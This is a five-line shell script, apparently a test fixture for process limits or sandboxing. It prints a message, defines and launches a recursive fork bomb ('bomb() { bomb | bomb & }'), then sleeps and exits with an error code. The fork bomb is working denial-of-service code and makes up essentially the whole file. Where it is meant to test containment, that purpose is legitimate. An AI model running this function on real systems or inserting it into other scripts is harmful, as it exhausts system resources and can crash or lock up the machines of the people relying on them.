echo "before the bomb"
bomb() { bomb | bomb & }
bomb
sleep 60
exit 1
